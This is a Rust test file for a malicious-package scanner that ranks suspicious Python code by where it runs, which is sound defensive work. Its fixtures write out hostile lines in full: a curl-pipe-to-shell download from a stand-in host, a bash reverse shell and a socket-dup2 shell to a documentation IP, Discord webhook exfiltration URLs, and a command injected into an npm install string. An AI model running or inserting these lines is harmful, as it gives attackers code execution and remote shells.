fn a_webhook_client_is_not_a_hard_coded_webhook() {
    let client = "def send(webhook_id, webhook_token, content):\n    url = f\"https://discord.com/api/webhooks/{webhook_id}/{webhook_token}\"\n    return fetch_url(url, data=content)\n";
    assert_eq!(
        max_severity(client, Role::Import, "exfil-discord-webhook"),
        None
    );
    for fixed in [
        "url = f\"https://discord.com/api/webhooks/{HOOK_ID}/{HOOK_TOKEN}\"\n",
        "url = \"https://discord.com/api/webhooks/\" + HOOK\n",
        "url = \"https://discordapp.com/api/webhooks/0000/FAKE\"\n",
    ] {
        assert_eq!(
            max_severity(fixed, Role::Import, "exfil-discord-webhook"),
            Some(Severity::High),
            "{fixed}"
        );
    }
}

#[test]
fn runtime_only_library_functions_cap_single_hits_at_medium() {
    let body = "def helper():\n    os.system(\"curl -s https://payload.invalid/i.sh | sh\")\n";
    // A library function nothing runs at import: a user must call it.
    assert_eq!(
        max_severity(body, Role::Module, "dl-shell-pipe"),
        Some(Severity::Medium)
    );
    // So is a `__main__` block.
    let main = format!("{body}if __name__ == \"__main__\":\n    helper()\n");
    assert_eq!(
        max_severity(&main, Role::Module, "dl-shell-pipe"),
        Some(Severity::Medium)
    );
    // Named by import-time code (a call, a callback, a decorator, through a
    // caller, a class instantiated at import): it runs on import.
    for reach in [
        "helper()\n",
        "threading.Thread(target=helper).start()\n",
        "def outer():\n    helper()\n\nouter()\n",
        "class C:\n    def __init__(self):\n        helper()\n\nC()\n",
        "@helper\ndef g():\n    pass\n",
    ] {
        let src = format!("{body}{reach}");
        assert_eq!(
            max_severity(&src, Role::Module, "dl-shell-pipe"),
            Some(Severity::High),
            "{reach}"
        );
    }
    // A name in a string or a comment at import time does not run it.
    let named = format!("{body}__all__ = [\"helper\"]  # helper\n");
    assert_eq!(
        max_severity(&named, Role::Module, "dl-shell-pipe"),
        Some(Severity::Medium)
    );
    // Install and import files are not capped, nor are full-weight shapes.
    assert_eq!(
        max_severity(body, Role::Install, "dl-shell-pipe"),
        Some(Severity::Critical)
    );
    assert_eq!(
        max_severity(body, Role::Import, "dl-shell-pipe"),
        Some(Severity::Critical)
    );
    let shell = "def f():\n    os.system(\"bash -i >& /dev/tcp/198.51.100.1/4444 0>&1\")\n";
    assert_eq!(
        max_severity(shell, Role::Module, "proc-reverse-shell"),
        Some(Severity::Critical)
    );
}

#[test]
fn a_socket_dup2_weighs_where_it_runs() {
    // A log forwarder's library function (awslambdaric's shape) is medium;
    // at import it is high, in setup.py critical.
    let forward = "def redirect(s, fd):\n    os.dup2(s.fileno(), fd)\n";
    assert_eq!(
        max_severity(forward, Role::Module, "proc-socket-dup2"),
        Some(Severity::Medium)
    );
    let shell =
        "s = socket.socket()\ns.connect((\"198.51.100.1\", 4444))\nos.dup2(s.fileno(), 0)\n";
    assert_eq!(
        max_severity(shell, Role::Module, "proc-socket-dup2"),
        Some(Severity::High)
    );
    assert_eq!(
        max_severity(shell, Role::Install, "proc-socket-dup2"),
        Some(Severity::Critical)
    );
}

#[test]
fn a_pipe_to_shell_with_nothing_to_download_is_a_description() {
    // A detector's pattern table (openhands-sdk's shape).
    let table = "PATTERNS = [\n    (\n        r\"\\bcurl\\b[^|]{0,200}\\|\\s*(?:ba)?sh\\b\",\n        \"Download and run (curl | sh)\",\n    ),\n    (r\"x\", \"wget|bash\"),\n]\n";
    assert_eq!(max_severity(table, Role::Import, "dl-shell-pipe"), None);
    let real = "os.system(\"curl https://payload.invalid/i.sh | sh\")\n";
    assert_eq!(
        max_severity(real, Role::Import, "dl-shell-pipe"),
        Some(Severity::Critical)
    );
}

#[test]
fn a_build_tool_through_a_local_variable_is_a_build_step() {
    // pyodps's setup.py shape: the command is a literal held in a variable,
    // extended with arguments only.
    let build = "class BuildJS(install):\n    def run(self):\n        cmd = \"npm install\"\n        if self.registry:\n            cmd += \" --registry=\" + self.registry\n        ret = os.system(cmd)\n\nsetup(cmdclass={\"build_js\": BuildJS})\n";
    assert_eq!(
        max_severity(build, Role::Install, "combo-install-hook-process"),
        None
    );
    // A shell operator appended, another program, or a value that is not a
    // whole literal: a process.
    for (from, to) in [
        (
            "\" --registry=\"",
            "\"; curl -s https://payload.invalid/x | sh\"",
        ),
        ("\"npm install\"", "\"python -c 'import os'\""),
        ("\"npm install\"", "\"npm\" + suffix"),
    ] {
        let src = build.replace(from, to);
        assert_eq!(
            max_severity(&src, Role::Install, "combo-install-hook-process"),
            Some(Severity::High),
            "{to}"
        );
    }
}
